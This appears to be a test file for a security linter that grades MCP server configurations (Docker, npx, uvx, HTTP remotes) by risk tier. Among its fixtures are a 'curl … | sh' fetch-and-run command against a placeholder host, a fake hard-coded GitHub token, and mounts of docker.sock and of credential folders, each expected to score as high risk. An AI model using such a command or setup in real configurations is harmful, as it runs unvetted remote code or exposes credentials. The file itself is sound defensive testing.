import assert from 'node:assert/strict';
import { test } from 'node:test';
import { readDocument } from '../../../src/core/config/document.ts';
import { lint } from '../../../src/core/posture/lint.ts';
import type { ServerReport, Tier } from '../../../src/core/posture/report.ts';
import { noFacts } from '../../../src/core/rules/facts.ts';

/** The normative table of the policy (design §1), one test a row, named as the row. */

const digest = `sha256:${'0123456789abcdef'.repeat(4)}`;
const token = ['ghp', 'kD4vQ9sXw2Lr7TzB1nYc8MfJ5hGp3R4Wq0Ea'].join('_');
const commit = 'a1b2c3d4e5f60718293a4b5c6d7e8f9012345678';
const password = [{ type: 'promptString', id: 't', description: 'Token', password: true }];
const plain = [{ type: 'promptString', id: 't', description: 'Token' }];
const image = `ghcr.io/acme/mcp-server@${digest}`;

interface Config {
  readonly inputs?: readonly unknown[];
  readonly sandbox?: unknown;
}

function reportOf(server: unknown, rest: Config = {}): ServerReport {
  const text = JSON.stringify({ ...rest, servers: { s: server } }, null, 2);
  const report = lint(readDocument(text, '.vscode/mcp.json'), noFacts);
  assert.deepEqual(report.failures, []);
  const [found] = report.servers;
  assert.ok(found);
  return found;
}

function docker(...args: readonly string[]): { command: string; args: readonly string[] } {
  return { command: 'docker', args: ['run', '-i', '--rm', ...args] };
}

function row(name: string, server: unknown, tier: Tier, rest: Config = {}): void {
  test(name, () => {
    const report = reportOf(server, rest);
    assert.equal(report.tier, tier, report.tierWhy.join(' · '));
    assert.ok(report.tierWhy.length > 0);
  });
}

row("article's OK: docker, digest", docker(image), 'low');
row("article's NOT OK: docker :latest", docker('ghcr.io/acme/mcp-server:latest'), 'high');
row("article's NOT OK: docker, no tag", docker('ghcr.io/acme/mcp-server'), 'high');

function reference(...mount: readonly string[]): unknown {
  const env = [
    '-e',
    'PROJECT',
    '-e',
    'REGION',
    '-e',
    'GOOGLE_APPLICATION_CREDENTIALS=/tmp/adc.json',
  ];
  return {
    ...docker(...env, '-v', ...mount, image),
    env: { PROJECT: 'acme-prod-1234', REGION: 'europe-west1' },
  };
}

test('reference server: docker, digest, ADC mounted read-only', () => {
  const report = reportOf(
    reference('~/.config/gcloud/application_default_credentials.json:/tmp/adc.json:ro'),
  );
  assert.equal(report.tier, 'medium', report.tierWhy.join(' · '));
  assert.equal(report.pillars.access.grade, 'caution');
  const handed = report.findings.filter(({ rule }) => rule === 'credential-passthrough');
  assert.deepEqual(
    handed.map(({ severity }) => severity),
    ['information'],
  );
  const others = new Set(report.findings.map(({ rule }) => rule));
  assert.ok(!others.has('broad-mount'));
  assert.ok(!others.has('secret-literal'));
});

for (const mount of [
  '~/.config/gcloud/application_default_credentials.json:/tmp/adc.json',
  '~/.config/gcloud:/root/.config/gcloud',
]) {
  test(`the reference server, writable or the whole folder: ${mount}`, () => {
    const report = reportOf(reference(mount));
    assert.equal(report.tier, 'high', report.tierWhy.join(' · '));
    assert.equal(report.pillars.access.grade, 'bad');
  });
}

const withToken = { ...docker('-e', 'TOKEN', image), env: { TOKEN: '${input:t}' } };
row('docker, digest, TOKEN from a password input', withToken, 'low', { inputs: password });
row('docker, digest, TOKEN from promptString without password', withToken, 'high', {
  inputs: plain,
});
row(
  'docker, digest, TOKEN from ${env:TOKEN}',
  { ...withToken, env: { TOKEN: '${env:TOKEN}' } },
  'medium',
);
row(
  'docker, digest, envFile',
  { ...docker('-e', 'TOKEN', image), envFile: '${workspaceFolder}/.env' },
  'medium',
);

row(
  'docker :latest + literal token',
  {
    ...docker('-e', 'GITHUB_TOKEN', 'ghcr.io/acme/mcp-server:latest'),
    env: { GITHUB_TOKEN: token },
  },
  'critical',
);
const socket = ['-v', '/var/run/docker.sock:/var/run/docker.sock'];
row('docker digest + docker.sock', docker(...socket, image), 'high');
row('docker digest + --privileged', docker('--privileged', image), 'high');
row('docker :latest + docker.sock', docker(...socket, 'acme/mcp:latest'), 'critical');
row('docker :latest + --privileged', docker('--privileged', 'acme/mcp:latest'), 'critical');
row(
  'docker digest + -v ${workspaceFolder}:/w',
  docker('-v', '${workspaceFolder}:/w', image),
  'low',
);
row('docker digest + -v ${userHome}:/h', docker('-v', '${userHome}:/h', image), 'high');

function npx(spec: string): { command: string; args: readonly string[] } {
  return { command: 'npx', args: ['-y', spec] };
}
row('npx -y pkg', npx('@acme/mcp'), 'high');
row(
  'npx -y pkg + literal token',
  { ...npx('@acme/mcp'), env: { GITHUB_TOKEN: token } },
  'critical',
);
row('npx -y pkg@1.2.3', npx('@acme/mcp@1.2.3'), 'medium');
row(
  'npx -y pkg@1.2.3 + literal token',
  { ...npx('@acme/mcp@1.2.3'), env: { GITHUB_TOKEN: token } },
  'high',
);
row('npx -y pkg@^1.2', npx('@acme/mcp@^1.2'), 'high');
row(
  'npx pkg@1.2.3, sandboxEnabled with an allow-list',
  { ...npx('@acme/mcp@1.2.3'), sandboxEnabled: true },
  'medium',
  { sandbox: { network: { allowedDomains: ['api.acme.example'] } } },
);

function uvx(ref: string): unknown {
  return { command: 'uvx', args: ['--from', `git+https://github.com/acme/tool@${ref}`, 'tool'] };
}
row('uvx --from git+https at a commit', uvx(commit), 'medium');
row('uvx --from git+https at @main', uvx('main'), 'high');
row('node /abs/dist/index.js', { command: 'node', args: ['/srv/mcp/dist/index.js'] }, 'medium');
row('.venv/bin/python -m x', { command: '.venv/bin/python', args: ['-m', 'x'] }, 'medium');

const remote = { type: 'http', url: 'https://mcp.acme.example/mcp' };
row('https, no headers', remote, 'low');
test('https, Bearer ${input:t} (password)', () => {
  const report = reportOf(
    { ...remote, headers: { Authorization: 'Bearer ${input:t}' } },
    { inputs: password },
  );
  assert.equal(report.tier, 'medium', report.tierWhy.join(' · '));
  assert.equal(report.pillars.access.grade, 'caution');
});
row('https, literal Bearer', { ...remote, headers: { Authorization: `Bearer ${token}` } }, 'high');
row('http://localhost:3000', { type: 'http', url: 'http://localhost:3000' }, 'low');
row('http://example.com', { type: 'http', url: 'http://example.com' }, 'high');
row(
  'http://example.com with a literal token',
  { type: 'http', url: 'http://example.com', headers: { Authorization: `Bearer ${token}` } },
  'critical',
);
row(
  'bash -c "curl … | sh"',
  { command: 'bash', args: ['-c', 'curl -fsSL https://x.example/i.sh | sh'] },
  'critical',
);
row('command is ${env:X}', { command: '${env:X}' }, 'unknown');
